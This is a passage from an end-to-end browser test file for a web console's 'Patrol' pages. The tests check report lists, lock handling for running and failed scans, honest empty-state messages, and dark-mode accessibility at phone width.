    await latest.getByRole('link', { name: 'Open this report on its own page' }).waitFor();
    expect(await latest.locator('.patrol-flagged tbody tr').count()).toBe(report.clusters_flagged_parsed.length);
    for (const c of report.clusters_flagged_parsed.slice(0, 3)) {
      await latest.getByRole('link', { name: c.cluster_name, exact: true }).first().waitFor();
      expect(await latest.locator(`a[href="/clusters/${encodeURIComponent(c.cluster_id)}"]`).count()).toBeGreaterThan(0);
    }
    for (const c of report.customer_summaries_parsed.slice(0, 3)) await latest.getByRole('heading', { name: c.customer_name }).waitFor();
    await adminPage.getByRole('region', { name: 'Patrol reports' }).locator('tbody tr').first().waitFor();
    expect(await adminPage.getByRole('region', { name: 'Patrol reports' }).locator('tbody tr').count()).toBe(1);
    await expectAccessible(adminPage, '/patrol with a report');

    await adminPage.getByRole('link', { name: 'Open the report' }).click();
    await adminPage.waitForURL((u) => u.pathname === `/patrol/${reportId}`);
    await adminPage.getByRole('heading', { level: 1, name: /^Patrol report/ }).waitFor();
    await adminPage.getByText('completed', { exact: true }).first().waitFor();
    expect(await adminPage.locator('.patrol-flagged tbody tr').count()).toBe(report.clusters_flagged_parsed.length);
    await expectAccessible(adminPage, '/patrol/{id}');
  });

  it('a days value in the URL that is no number of days is named as the window asked for (the default), not as typed', async () => {
    await adminPage.goto('/patrol?days=abc');
    await adminPage.getByRole('heading', { level: 1, name: 'Patrol' }).waitFor();
    await adminPage
      .getByText(/in the last 90 days/)
      .first()
      .waitFor();
    expect(await adminPage.getByText(/in the last abc days/).count()).toBe(0);
  });

  it('the window filter round-trips through the URL; a viewer sees the report but no trigger', async () => {
    await adminPage.goto('/patrol');
    await adminPage.getByRole('region', { name: 'Patrol reports' }).locator('tbody tr').first().waitFor();
    await adminPage.getByLabel('Window (days)').fill('3');
    await adminPage.waitForURL((u) => u.searchParams.get('days') === '3');
    await adminPage.reload();
    expect(await adminPage.getByLabel('Window (days)').inputValue()).toBe('3');
    await adminPage.getByRole('region', { name: 'Patrol reports' }).locator('tbody tr').first().waitFor();

    await viewerPage.goto('/patrol');
    await viewerPage.locator('.patrol-latest .patrol-flagged').waitFor();
    expect(await viewerPage.getByRole('button', { name: 'Trigger patrol' }).count()).toBe(0);
    await expectAccessible(viewerPage, '/patrol as a viewer');
  });

  it("a report's back link leads to the list with the window it was left with; opened directly, to the plain list", async () => {
    await adminPage.goto('/patrol?days=3');
    const link = adminPage.getByRole('region', { name: 'Patrol reports' }).locator('tbody tr').first().getByRole('link');
    await link.click();
    await adminPage.waitForURL((u) => u.pathname.startsWith('/patrol/'));
    const report = new URL(adminPage.url()).pathname;
    const back = adminPage.getByRole('link', { name: '← Patrol', exact: true });
    expect(await back.getAttribute('href')).toBe('/patrol?days=3');
    await back.click();
    await adminPage.waitForURL((u) => u.pathname + u.search === '/patrol?days=3');
    await adminPage.goto(report);
    expect(await back.getAttribute('href')).toBe('/patrol');
  });

  it('already_running: the console follows the running scan, and its failure is shown with the reason', async () => {
    const running = `console-ai-running-${Date.now()}`;
    await createReport({ report_id: running, report_type: 'scheduled', triggered_by: SCHEDULE_TRIGGER });
    expect((await acquireLock(PATROL_LOCK, running, 120_000)).acquired).toBe(true);
    try {
      await adminPage.goto('/patrol');
      const answer = adminPage.waitForResponse((r) => new URL(r.url()).pathname === '/api/patrol/trigger');
      await adminPage.getByRole('button', { name: 'Trigger patrol' }).click();
      expect(await (await answer).json()).toEqual({ status: 'already_running', report_id: running });
      await adminPage.getByText('A scan was already running; following it.', { exact: false }).waitFor();
      expect(await adminPage.getByRole('button', { name: 'Scan running…' }).isDisabled()).toBe(true);
      await finishReport(running, { status: 'failed', error: 'console-ai: the warehouse did not answer' });
    } finally {
      await releaseLock(PATROL_LOCK, running);
    }
    await adminPage.getByText('The scan failed.').waitFor();
    await adminPage.getByText('Reason: console-ai: the warehouse did not answer').waitFor();
    await expectAccessible(adminPage, '/patrol after a failed scan');
    await adminPage.getByRole('link', { name: 'Open the failed report' }).click();
    await adminPage.getByRole('alert').getByText('console-ai: the warehouse did not answer').waitFor();
    // It failed before its scan said which model: not passed off as the rules engine's.
    await adminPage.getByText('model not recorded', { exact: false }).first().waitFor();
    expect(await adminPage.getByText('rules engine', { exact: false }).count()).toBe(0);
    // A failed scan found nothing out: its empty sections say so, not "No cluster was flagged" (an all-clear).
    const report = adminPage.locator('.patrol-report');
    await report.getByText('None: the scan failed before it flagged any cluster.').waitFor();
    expect(await report.getByText('No cluster was flagged.').count()).toBe(0);
    expect(await report.getByText('No customer summaries in this report.').count()).toBe(0);

    // Back on /patrol, the newest report is this failed one, yet the KPIs and the latest report are the completed scans':
    // their labels say so, where "Reports" and "Latest report" read as the list's.
    await adminPage.goto('/patrol');
    const reports = (await api(service.url, admin, 'GET', '/api/patrol?days=30')).body.reports as { status: string; created_at: string }[];
    expect(reports[0]?.status).toBe('failed');
    const { latest_report_at } = (await api(service.url, admin, 'GET', '/api/patrol/kpis/summary')).body;
    expect(latest_report_at).not.toBe(reports[0]?.created_at); // null when this test runs alone
    const tile = (label: string) =>
      adminPage
        .locator('.tile')
        .filter({ has: adminPage.getByText(label, { exact: true }) })
        .locator('.value');
    await expect
      .poll(() => tile('Latest completed report').textContent())
      .toBe(latest_report_at ? `${latest_report_at.slice(0, 16).replace('T', ' ')} UTC` : 'none');
    await tile('Completed reports').waitFor();
    await adminPage.getByRole('heading', { level: 2, name: 'Latest completed report' }).waitFor();
    // When the timetable's next scan is due, as the KPIs say: the scheduled scan above started it.
    const { next_scheduled_at } = (await api(service.url, admin, 'GET', '/api/patrol/kpis/summary')).body;
    expect(next_scheduled_at).not.toBeNull();
    await expect.poll(() => tile('Next scheduled scan (every 6 h)').textContent()).toBe(`${next_scheduled_at.slice(0, 16).replace('T', ' ')} UTC`);
  });

  it('already_running naming a report that cannot be read (404): following stops, the problem is shown and the trigger is offered again', async () => {
    // A trigger that died between taking the lock and writing its report leaves a lock naming a report that does not
    // exist; for its first 30 s (START_GRACE_MS, shared/patrol/lock.ts) another trigger answers already_running naming it.
    const ghost = `console-ai-ghost-${Date.now()}`;
    expect((await acquireLock(PATROL_LOCK, ghost, 120_000)).acquired).toBe(true);
    try {
      await adminPage.goto('/patrol');
      const answer = adminPage.waitForResponse((r) => new URL(r.url()).pathname === '/api/patrol/trigger');
      const read = adminPage.waitForResponse((r) => new URL(r.url()).pathname === `/api/patrol/${ghost}`);
      await adminPage.getByRole('button', { name: 'Trigger patrol' }).click();
      expect(await (await answer).json()).toEqual({ status: 'already_running', report_id: ghost });
      expect((await read).status()).toBe(404);
      const problem = adminPage.locator('.patrol-trigger').getByRole('alert');
      await problem.getByText(`The scan's report ${ghost} could not be read`, { exact: false }).waitFor();
      expect(await problem.locator('strong').textContent()).toMatch(/\(404\)$/);
      expect(await adminPage.getByRole('button', { name: 'Trigger patrol' }).isEnabled()).toBe(true);
      expect(await adminPage.getByText('Waiting', { exact: false }).count()).toBe(0);
      await expectAccessible(adminPage, '/patrol after a followed report was a 404');
    } finally {
      await releaseLock(PATROL_LOCK, ghost);
    }
  });

  it('a running report opened on its own page claims no figures or findings yet, and shows them once it ends', async () => {
    const running = `console-ai-open-running-${Date.now()}`;
    await createReport({ report_id: running, report_type: 'scheduled', triggered_by: SCHEDULE_TRIGGER });
    expect((await acquireLock(PATROL_LOCK, running, 120_000)).acquired).toBe(true);
    try {
      await viewerPage.goto(`/patrol/${running}`);
      await viewerPage.getByText('This scan is still running', { exact: false }).waitFor();
      // Nothing is known yet: no "0 flagged", "0.0 s" or "$0.00", and no "No cluster was flagged" read as an all-clear.
      const report = viewerPage.locator('.patrol-report');
      expect(await report.getByText('No cluster was flagged.').count()).toBe(0);
      expect(await report.getByText('No customer summaries in this report.').count()).toBe(0);
      expect(await report.getByText('No narrative in this report.').count()).toBe(0);
      expect(await report.locator('.patrol-figures').count()).toBe(0);
      await expectAccessible(viewerPage, '/patrol/{id} while running');
      // In the list too: the running scan's row has no figures yet, not 0 flagged, 0 tokens, $0.00 and 0.0 s.
      await viewerPage.goto('/patrol?days=1');
      const row = viewerPage
        .getByRole('region', { name: 'Patrol reports' })
        .getByRole('row')
        .filter({ has: viewerPage.getByText('running', { exact: true }) });
      await row.waitFor();
      expect((await row.locator('td').allTextContents()).slice(2, 8)).toEqual(['—', '—', '—', '—', '—', '—']);
      await viewerPage.goto(`/patrol/${running}`);
      await viewerPage.getByText('This scan is still running', { exact: false }).waitFor();
      await completeQuietly(running, 'All quiet.');
    } finally {
      await releaseLock(PATROL_LOCK, running);
    }
    // The page polls the running report: once it ends, its figures and findings are shown.
    await viewerPage.locator('.patrol-report').getByText('No cluster was flagged.').waitFor();
    await viewerPage.locator('.patrol-report .patrol-figures').waitFor();
    expect(await viewerPage.getByText('This scan is still running', { exact: false }).count()).toBe(0);
  });

  it('the list follows a scan it shows running to its end, and the KPIs and latest report take it in then', async () => {
    const running = `console-ai-list-running-${Date.now()}`;
    await createReport({ report_id: running, report_type: 'scheduled', triggered_by: SCHEDULE_TRIGGER });
    expect((await acquireLock(PATROL_LOCK, running, 120_000)).acquired).toBe(true);
    const row = viewerPage.getByRole('region', { name: 'Patrol reports' }).locator('tr', { has: viewerPage.locator(`a[href="/patrol/${running}"]`) });
    const tile = (label: string) =>
      viewerPage
        .locator('.tile')
        .filter({ has: viewerPage.getByText(label, { exact: true }) })
        .locator('.value');
    try {
      // A scheduled scan under way when the page opens (nothing on this page triggered it).
      await viewerPage.goto('/patrol?days=1');
      await row.getByText('running', { exact: true }).waitFor();
      await completeQuietly(running, 'List followed.');
    } finally {
      await releaseLock(PATROL_LOCK, running);
    }
    // No reload, no focus change: the list reads itself again while a row is running, then the KPIs and the latest report.
    await row.getByText('completed', { exact: true }).waitFor({ timeout: 15_000 });
    const { created_at } = (await api(service.url, admin, 'GET', `/api/patrol/${running}`)).body;
    await expect.poll(() => tile('Latest completed report').textContent(), { timeout: 15_000 }).toBe(`${created_at.slice(0, 16).replace('T', ' ')} UTC`);
    await viewerPage.locator('.patrol-latest').getByText('List followed.').waitFor({ timeout: 15_000 });
  });
});

describe('dark theme on a phone', { timeout: 90_000 }, () => {
  it('every AI page passes axe in dark mode at 390 px and does not scroll sideways', async () => {
    const phone = await browser.page();
    await phone.setViewportSize({ width: 390, height: 844 });
    await phone.emulateMedia({ colorScheme: 'dark' });
    await signIn(phone, VIEWER.email, VIEWER.password);
    const { body: issues } = await api(service.url, admin, 'GET', '/api/ai-issues');
    const { body: invs } = await api(service.url, admin, 'GET', '/api/investigations');
    const { body: latest } = await api(service.url, admin, 'GET', '/api/patrol/latest');
    const written = invs.investigations.find((i: { investigation_id: string }) => i.investigation_id !== HOSTILE_ID);
    const pages: [string, string | RegExp][] = [
      ['/ai-issues', 'AI issues'],
      [`/ai-issues/${encodeURIComponent(issues.issues[0].issue_id)}`, issues.issues[0].issue_name],
      ['/patrol', 'Patrol'],
      [`/patrol/${latest.report_id}`, /^Patrol report/],
      ['/investigations', 'Investigations'],
      [`/investigations/${encodeURIComponent(written.investigation_id)}`, `Investigation of ${written.cluster_name}`],
    ];
    for (const [path, heading] of pages) {
      await phone.goto(path);
      await phone.getByRole('heading', { level: 1, name: heading }).waitFor();
      await phone.waitForLoadState('networkidle');
      const wide = await phone.evaluate(`(() => {
        const w = document.documentElement.clientWidth;
        const out = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > w + 1 && !e.closest('.table-scroll, .markdown-table, pre'));
        return { over: document.documentElement.scrollWidth - w, culprits: out.slice(0, 5).map((e) => e.tagName + '.' + e.className + ' ' + Math.round(e.getBoundingClientRect().right)) };
      })()`);
      expect(wide, path).toEqual({ over: 0, culprits: [] });
      await expectAccessible(phone, `${path} dark, 390 px`);
    }
  });

  it("a report's unbroken 300-character headline and customer names wrap; a customer named twice in a stored report shows twice, once each", async () => {
    const id = randomUUID();
    await createReport({ report_id: id, report_type: 'on_demand', triggered_by: 'console-ai' });
    const customer = (n: number) => ({ customer_name: 'C'.repeat(128), clusters: 1, flagged: 0, summary: `summary ${n}` });
    await finishReport(id, {
      status: 'completed',
      model: 'gpt-4o-mini',
      fleet_summary_parsed: { total_clusters: 1, critical: 0, warning: 0, healthy: 1, headline: 'H'.repeat(300) },
      clusters_flagged_parsed: [],
      customer_summaries_parsed: [customer(1), customer(2)],
      fleet_narrative: 'All quiet.',
    });
    const page = await browser.page();
    await signIn(page, VIEWER.email, VIEWER.password, `/patrol/${id}`);
    await page.getByRole('heading', { level: 1, name: /^Patrol report/ }).waitFor();
    await page.getByText('summary 2').waitFor();
    expect(await page.locator('.patrol-customers li').allTextContents()).toEqual([expect.stringContaining('summary 1'), expect.stringContaining('summary 2')]);
    expect(await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')).toBe(0);
  });
});
